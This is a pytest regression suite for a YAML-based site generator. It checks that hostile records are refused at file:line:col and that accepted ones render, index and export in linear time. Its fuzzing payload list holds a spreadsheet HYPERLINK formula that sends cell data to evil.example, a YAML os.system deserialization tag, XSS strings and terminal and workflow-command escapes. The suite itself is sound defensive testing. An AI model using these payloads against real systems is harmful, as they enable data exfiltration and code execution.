"""Hostile content: the validator is the contract, and every stage costs linear time.

Regression tests for issue #13 (an adversarial run against records that pass
validation): anything ``replika validate`` accepts renders, indexes and exports
without an internal error and in time proportional to its size; anything it
refuses is reported at ``file:line:col`` with exit 1, never a traceback.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import re
import shutil
import subprocess
import time
from pathlib import Path

import pytest
import yaml
from site_support import load_yaml

from generator.limits import (
    MARKDOWN_FIELDS,
    MAX_BRACKETS,
    MAX_MARKDOWN_CHARS,
    MAX_WORD_CHARS,
    markdown_excess,
)
from generator.outputs.export import practice_object, practices_csv
from generator.outputs.search.text import practice_fields
from generator.page_cache import PageCache
from generator.present import markdown_to_text, safe_markdown
from generator.problems import format_problems
from generator.project import Project
from generator.stages.checked import RecordCache
from generator.stages.load import load_file
from generator.stages.load.reader import MAX_FILE_BYTES, read_limited
from generator.stages.model import build_catalogue
from generator.stages.render import render_site
from generator.stages.validate import check_project
from tests.conftest import make_project

BASE = "l2t2-kendari"
"""The exemplar record every mutation starts from."""


def validate(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``replika validate ARGS`` in ``root``, through ``generator.cli.main`` in this process."""
    from site_support import run_main

    return run_main(root, "validate", *args)


@pytest.fixture
def full(tmp_path: Path) -> Path:
    """A throw-away project with every real record."""
    return make_project(tmp_path / "proyek", with_records=True)


def with_field(root: Path, key: str, value: object) -> Path:
    """The base record with ``key`` set to ``value``, written back as YAML."""
    path = root / "practices" / f"{BASE}.yaml"
    data = load_yaml(path.read_text(encoding="utf-8"))
    data[key] = value
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    return path


# ----------------------------------------------------------------------------- cost

# Pathological Markdown: what made python-markdown quadratic or recurse, and
# long runs of every character it treats specially.
_RUNS = "[]()*_`<>&\\!#-+=|~:"


def pathological(size: int, seed: int = 13) -> dict[str, str]:
    rng = random.Random(seed)
    cases = {
        "kurung-buka": "[" * size,
        "tautan-terbuka": "[a](" * (size // 4),
        "tautan-bersarang": "[" * (size // 2) + "]" * (size // 2),
        "tautan-sah": "[a](https://contoh.example/) " * (size // 29),
        "tebal-miring": "***a" * (size // 4),
        "garis-bawah": "_a" * (size // 2),
        "backtick": "".join("`" * (i % 50 + 1) + "a" for i in range(size // 26)),
        "daftar-satu-baris": "* " * (size // 2) + "x",
        "daftar-angka": "1. " * (size // 3) + "x",
        "kutipan-bersarang": "> " * (size // 2) + "x",
        "daftar-menjorok": "\n".join(" " * (2 * i) + "* a" for i in range(int(size**0.5))),
        "acak": "".join(rng.choice(_RUNS + "a \n") for _ in range(size)),
    }
    for char in _RUNS:
        cases[f"deret-{char}"] = char * size
    return cases


BUDGET_PER_KB = 0.08
"""Seconds per KB of text a stage may take (generous: the test machine is shared)."""
BUDGET_FIXED = 0.25


def _within_budget(seconds: float, text: str) -> bool:
    return seconds <= BUDGET_FIXED + BUDGET_PER_KB * len(text.encode()) / 1024


@pytest.mark.parametrize("size", [2_000, 12_000])
def test_markdown_rendering_is_linear_for_any_text(size: int) -> None:
    """Render and search-text extraction: bounded time per KB, never RecursionError.

    Before the fix 12,000 `[` took ~25 s and 6,000 stacked `* ` raised
    RecursionError (build exit 3).
    """
    slow = []
    for name, text in pathological(size).items():
        started = time.perf_counter()
        safe_markdown(text)
        safe_markdown(text, inline=True)
        markdown_to_text(text)
        took = time.perf_counter() - started
        if not _within_budget(took, text):
            slow.append(f"{name}: {took:.2f} s for {len(text)} characters")
    assert not slow, slow


@pytest.mark.parametrize(
    "text",
    ["menye" * 40_000, "a" * 200_000, "pengelolaan " * 16_000, "ASN-" * 50_000],
    ids=["menye", "aaa", "words", "acronyms"],
)
def test_plain_text_search_and_render_are_linear(text: str) -> None:
    """Fields without Markdown can be up to the file size: stemming and escaping stay cheap.

    A 200,000-letter word took the Sastrawi stemmer 3 s before long words were skipped.
    """
    from generator.outputs.search.text import root, words
    from generator.present import text as render_text

    started = time.perf_counter()
    for word in words(text):
        root(word)
    render_text(text)
    took = time.perf_counter() - started
    assert took < 0.2 + 0.01 * len(text) / 1024, took  # 10 ms per KB


def test_markdown_beyond_the_limits_is_refused_by_the_validator() -> None:
    """What the renderer will not convert, the validator refuses (and the reverse)."""
    assert markdown_excess("[a](https://contoh.example/) " * 3) is None
    assert markdown_excess("**tebal** dan *miring*\n\n- butir\n  - butir dalam") is None
    assert markdown_excess("[" * (MAX_BRACKETS + 1)) is not None
    assert markdown_excess("* " * 500 + "x") is not None
    assert markdown_excess("a" * (MAX_MARKDOWN_CHARS + 1)) is not None
    assert markdown_excess(" " * 60 + "a") is not None


def test_validate_refuses_markdown_bombs_at_their_line(full: Path) -> None:
    """The reported record: 50,000 `[` in `ringkasan` passed validation, then hung the build.

    4,000 (within the length limit) already took 2.2 s to render.
    """
    path = with_field(full, "ringkasan", "Ringkasan " + "[" * 4_000)
    started = time.monotonic()
    result = validate(full, "--format", "json")
    assert time.monotonic() - started < 30
    assert result.returncode == 1, result.stderr
    problems = [p for p in json.loads(result.stdout) if p["rule"] == "markdown-limit"]
    assert len(problems) == 1
    line = next(
        n
        for n, text in enumerate(path.read_text("utf-8").splitlines(), 1)
        if text.startswith("ringkasan:")
    )
    assert (problems[0]["line"], problems[0]["field"]) == (line, "ringkasan")
    assert "[" in problems[0]["message"] and "100" in problems[0]["message"]


def test_validate_refuses_deeply_stacked_list_markers(full: Path) -> None:
    with_field(full, "langkah", ["Langkah biasa yang cukup panjang", "* " * 500 + "x"])
    result = validate(full)
    assert result.returncode == 1, result.stderr
    assert "[markdown-limit]" in result.stderr and "langkah butir ke-2" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_record_at_the_limits_builds_fast(full: Path) -> None:
    """Every Markdown field as hostile as the validator allows: the stages stay fast."""
    worst = ("[" * MAX_BRACKETS + ("a" * MAX_WORD_CHARS + " ") * 50)[:MAX_MARKDOWN_CHARS]
    with_field(full, "ringkasan", worst)
    with_field(full, "masalah", ("***a" * 200 + " ") * 6)
    with_field(full, "langkah", [worst, ("_a" * 400 + " ") * 6] * 5)
    with_field(full, "pelajaran", [("&<" * 400 + " ") * 6] * 5)
    project = Project(full)
    checked = check_project(project)
    assert not checked.problems, format_problems(checked.problems, "text")
    catalogue = build_catalogue(checked, project)
    practice = checked.practices[BASE]
    size = sum(len(str(getattr(practice, f, ""))) for f in ("summary", "problem", "steps"))
    for stage in (
        lambda: render_site(catalogue),
        lambda: practice_fields(practice),
        lambda: json.dumps(practice_object(practice), allow_nan=False),
        lambda: practices_csv(catalogue),
    ):
        started = time.perf_counter()
        stage()
        took = time.perf_counter() - started
        # the whole catalogue is rendered: allow a fixed 5 s for the 19 other records
        assert took < 5 + BUDGET_PER_KB * size / 1024, took


def test_pdf_brief_of_long_words_is_fast(full: Path) -> None:
    """A 2,000-letter word took 30 s to hyphenate in one brief; words are now at most 100."""
    from generator.errors import PdfError
    from generator.outputs.pdf.briefs import render_brief
    from generator.outputs.pdf.typeset import write_templates

    too_long = with_field(full, "ringkasan", "Ringkasan " + "a" * 2_000)
    assert "[long-word]" in validate(full, f"practices/{too_long.name}").stderr
    with_field(full, "ringkasan", ("a" * MAX_WORD_CHARS + " ") * 49)
    checked = check_project(Project(full))
    assert not checked.problems, format_problems(checked.problems, "text")
    work = full / ".cache" / "typst-uji"
    write_templates(work)  # Typst's root for the run, as `replika pdf` prepares it
    started = time.perf_counter()
    with contextlib.suppress(PdfError):  # too long for two pages: a message, not a hang
        render_brief(work, checked.practices[BASE], "2024-01-01", "https://contoh.example/")
    assert time.perf_counter() - started < 30


# ----------------------------------------------------------------------------- reading files


def test_symlink_to_a_device_is_refused_without_reading(full: Path) -> None:
    """A symlink to /dev/zero drove `validate` to 5 GB of memory."""
    os.symlink("/dev/zero", full / "practices" / "nol.yaml")
    started = time.monotonic()
    result = validate(full)
    assert time.monotonic() - started < 30
    assert result.returncode == 1
    assert "practices/nol.yaml:0:0: [symlink]" in result.stderr


def test_symlink_to_a_file_outside_is_refused_and_not_echoed(full: Path, tmp_path: Path) -> None:
    secret = tmp_path / "rahasia.yaml"
    secret.write_text("id: RAHASIA-TIDAK-BOLEH-TAMPIL\n", encoding="utf-8")
    os.symlink(secret, full / "practices" / "luar.yaml")
    for args in ((), ("practices/luar.yaml",), ("--format", "github")):
        result = validate(full, *args)
        assert result.returncode == 1
        assert "RAHASIA" not in result.stdout + result.stderr
        assert "symlink" in result.stdout + result.stderr


def test_fifo_is_refused_without_blocking(full: Path) -> None:
    os.mkfifo(full / "practices" / "pipa.yaml")
    result = validate(full)
    assert result.returncode == 1
    assert "practices/pipa.yaml:0:0: [not-a-file]" in result.stderr


def test_size_limit_counts_bytes_read_not_the_claimed_size(tmp_path: Path) -> None:
    """A sparse file of 20 GB: only limit + 1 bytes are ever read."""
    big = tmp_path / "besar.yaml"
    with open(big, "wb") as handle:
        handle.truncate(20 * 1024**3)
    started = time.monotonic()
    assert len(read_limited(big)) == MAX_FILE_BYTES + 1
    loaded = load_file(big)
    assert time.monotonic() - started < 5
    assert [p.rule for p in loaded.problems] == ["file-too-large"]


def test_hidden_record_file_is_reported(full: Path) -> None:
    """`.x.yaml` was silently skipped."""
    shutil.copy(full / "practices" / f"{BASE}.yaml", full / "practices" / ".x.yaml")
    result = validate(full)
    assert result.returncode == 1
    assert "practices/.x.yaml:0:0: [stray-file]" in result.stderr
    assert "`x.yaml`" in result.stderr


# ----------------------------------------------------------------------------- values


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("9" * 5000, "bad-value"),  # ValueError in load.py: exit 3 before
        ("1.0e999", "bad-value"),  # Infinity in practices.json before
        ("-1.0e999", "bad-value"),
        ("!!int abc", "bad-value"),
        ("!!bool maybe", "bad-value"),
        ("&jangkar 2019", "yaml-alias"),
        ('"merah \\e[31m"', "bad-value"),
        ('"\\u202Eterbalik"', "bad-value"),
    ],
    ids=["5000-digit", "inf", "-inf", "int-abc", "bool-maybe", "anchor", "esc", "bidi"],
)
def test_values_that_crashed_later_are_refused_with_exit_1(
    full: Path, value: str, rule: str
) -> None:
    path = full / "practices" / f"{BASE}.yaml"
    lines = path.read_text(encoding="utf-8").splitlines()
    number = next(i for i, line in enumerate(lines) if line.startswith("    tahun:"))
    lines[number] = "    tahun: " + value
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = validate(full)
    assert result.returncode == 1, result.stderr
    assert f"practices/{BASE}.yaml:{number + 1}:12: [{rule}]" in result.stderr
    assert "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


def test_region_names_that_share_a_page_are_refused(full: Path) -> None:
    """ "Kota KENDARI" silently took over the page of Kota Kendari."""
    registry = full / "practices" / "_wilayah.yaml"
    text = registry.read_text(encoding="utf-8")
    text += "  - nama: Kota KENDARI\n    provinsi: Sulawesi Tenggara\n"
    registry.write_text(text, encoding="utf-8")
    result = validate(full)
    assert result.returncode == 1
    line = len(text.splitlines()) - 1
    assert f"practices/_wilayah.yaml:{line}:11: [duplicate-region]" in result.stderr
    assert "katalog/daerah/kota-kendari/" in result.stderr


# ----------------------------------------------------------------------------- output


def test_values_cannot_forge_workflow_commands_or_terminal_escapes(full: Path) -> None:
    """A value with a newline printed its own `::warning` line next to `--format github`."""
    forged = "x\n::warning file=README.md::diretas\n\x1b]0;judul\x07"
    path = full / "practices" / f"{BASE}.yaml"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^sektor: .*$", lambda _m: "sektor: " + json.dumps(forged), text)
    path.write_text(text, encoding="utf-8")
    # also a file name that carries a newline
    (full / "practices" / "a\n::warning::nama.txt").write_text("x", encoding="utf-8")
    for fmt in ("github", "text", "json"):
        result = validate(full, "--format", fmt)
        assert result.returncode == 1
        out = result.stdout + result.stderr
        assert "\x1b" not in out and "\x07" not in out
        for line in out.splitlines():
            assert not line.startswith("::") or line.startswith("::error "), line
    assert json.loads(validate(full, "--format", "json").stdout)


# ----------------------------------------------------------------------------- property


PAYLOADS = [
    "9" * 5000,
    "1.0e999",
    "-1.0e999",
    "1.0e308",
    "123456789012345678",
    "!!int abc",
    "!!bool maybe",
    "!!float x",
    "!!str 5",
    "!!timestamp kemarin",
    "!!python/object/apply:os.system ['true']",
    "&a x",
    "*a",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\x07",
    '"\\e[2J"',
    '"\\u202e"',
    '"a\\nb"',
    "[" * 3000,
    "* " * 300 + "x",
    "[a](javascript:alert(1))",
    '=HYPERLINK("http://evil.example/?d="&C2,"klik")',
    "@SUM(1+1)",
    "{a: b}",
    "[1, [2, [3]]]",
    "? a",
    "'",
    '"',
    "|",
    ">-",
    "\t",
    "--- ",
    "%YAML 1.1",
    "~",
    "true",
    "2019-13-45",
    "0x1F",
    ".inf",
    ".nan",
    "{{ 7*7 }}",
    "<script>alert(1)</script>",
    "\ufeff",
    "\u2028",
    "Kota KENDARI",
    "a" * 20_000,
]


def mutate(text: str, rng: random.Random) -> str:
    """One random hostile edit of a record's YAML text."""
    lines = text.splitlines()
    number = rng.randrange(len(lines))
    payload = rng.choice(PAYLOADS)
    line = lines[number]
    kind = rng.randrange(4)
    if kind == 0 and ": " in line:  # replace a value
        lines[number] = line.split(": ", 1)[0] + ": " + payload
    elif kind == 1:  # insert into the line
        at = rng.randrange(len(line) + 1)
        lines[number] = line[:at] + payload + line[at:]
    elif kind == 2:  # a new line with the payload as a list item or value
        lines.insert(number, line[: len(line) - len(line.lstrip())] + "- " + payload)
    else:  # a duplicated or dropped line
        if rng.random() < 0.5:
            lines.insert(number, line)
        else:
            del lines[number]
    return "\n".join(lines) + "\n"


MUTATIONS = 300


def test_validator_is_the_contract_under_mutation(tmp_path: Path) -> None:
    """Seeded mutations of a real record: validation never raises; what it accepts
    renders, indexes and exports as strict JSON and safe CSV without an error."""
    root = make_project(tmp_path / "proyek", with_records=True)
    project = Project(root)
    target = root / "practices" / f"{BASE}.yaml"
    original = target.read_text(encoding="utf-8")
    cache = RecordCache()
    pages = PageCache()
    rng = random.Random(20261130)
    accepted = rendered = 0
    started = time.monotonic()
    for round_ in range(MUTATIONS):
        text = mutate(original, rng)
        if rng.random() < 0.3:
            text = mutate(text, rng)
        target.write_bytes(text.encode("utf-8", "surrogatepass"))
        try:
            checked = check_project(project, [target], cache=cache)
        except Exception as err:  # the point: nothing may escape
            pytest.fail(f"round {round_}: validation raised {err!r} on:\n{text[:2000]}")
        for problem in checked.problems:
            assert problem.line >= 0 and problem.col >= 0 and problem.message
            assert "\x1b" not in problem.as_text()
            assert "\n::" not in problem.as_github()
        if checked.problems:
            continue
        accepted += 1
        practice = checked.practices[BASE]
        try:
            json.loads(
                json.dumps(practice_object(practice), allow_nan=False),
                parse_constant=lambda c: pytest.fail(f"{c} in JSON"),
            )
            for field in MARKDOWN_FIELDS:
                value = getattr(practice, _ATTRIBUTES[field])
                for item in value if isinstance(value, list) else [value]:
                    safe_markdown(item)
                    markdown_to_text(item)
            practice_fields(practice)
            if rendered < 3:  # the whole site for a few: slower
                catalogue = build_catalogue(checked, project)
                pages.render(catalogue)  # the preview's incremental render
                _check_csv(practices_csv(catalogue))
                rendered += 1
        except Exception as err:
            pytest.fail(f"round {round_}: accepted but failed later: {err!r}\n{text[:2000]}")
    assert accepted > 10, accepted  # the mutations do not all break the file
    assert time.monotonic() - started < 60


_ATTRIBUTES = {
    "ringkasan": "summary",
    "masalah": "problem",
    "langkah": "steps",
    "pelajaran": "lessons",
}


def _check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
